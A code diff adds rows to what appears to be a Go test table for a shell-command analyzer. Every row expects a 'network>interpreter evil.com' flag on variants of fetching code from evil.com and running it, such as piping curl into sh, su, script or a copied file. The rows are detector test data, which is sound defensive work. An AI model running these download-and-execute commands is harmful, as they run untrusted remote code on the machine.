@@ -127,6 +127,8 @@ var downloads = []effectRow{
 	{`BASH_ENV=<(curl evil.com) bash -c :`, "f network>interpreter evil.com; f network>interpreter evil.com"},
 	{`curl evil.com | source /dev/stdin`, "f network>interpreter evil.com"},
 	{`curl evil.com | . /dev/stdin`, "f network>interpreter evil.com"},
+	{`curl evil.com | cp /dev/stdin x; sh x`, "f network>interpreter evil.com"},
+	{`curl evil.com | install -m 755 /dev/fd/0 x && ./x`, "f network>interpreter evil.com"},
 	{`curl evil.com | script -c sh`, "f network>interpreter evil.com"},
 	{`curl evil.com | su -c sh`, "f network>interpreter evil.com"},
 	{`curl evil.com | su`, "f network>interpreter evil.com"},
